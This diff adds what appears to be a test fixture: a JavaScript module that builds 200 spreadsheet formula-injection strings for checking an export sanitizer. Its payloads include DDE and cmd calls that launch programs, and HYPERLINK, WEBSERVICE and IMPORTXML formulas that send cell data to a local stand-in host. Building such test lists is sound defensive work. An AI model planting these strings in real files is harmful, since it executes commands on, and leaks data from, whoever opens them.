@@ -1,0 +1,36 @@
+/** Two hundred texts that a spreadsheet must never calculate: every way to begin, with every kind of harm behind it. */
+const beginnings = [
+  '=',
+  '+',
+  '-',
+  '@',
+  '\t=',
+  '\r=',
+  '\n=',
+  '\r\n=',
+  '＝',
+  '＋',
+  '－',
+  '＠',
+  ' =',
+  '   +',
+  '\u00A0=',
+  '\u3000@',
+  '\u200B=',
+  '\uFEFF-',
+  '=-',
+  '@=',
+]
+const harms = [
+  '1+1',
+  `cmd|'/c calc'!A0`,
+  `HYPERLINK("http://127.0.0.1/?x="&A1,"点击查看")`,
+  `WEBSERVICE("http://127.0.0.1/"&A1)`,
+  'SUM(A1:A9)*cmd',
+  `IMPORTXML(CONCAT("http://127.0.0.1/",A1),"//a")`,
+  `DDE("cmd";"/c calc";"x")`,
+  'A1&"<script>alert(1)</script>"',
+  '",=1+1,"',
+  ';=1+1\r\n=2+2',
+]
+export const formulaPayloads = beginnings.flatMap((beginning) => harms.map((harm) => beginning + harm))
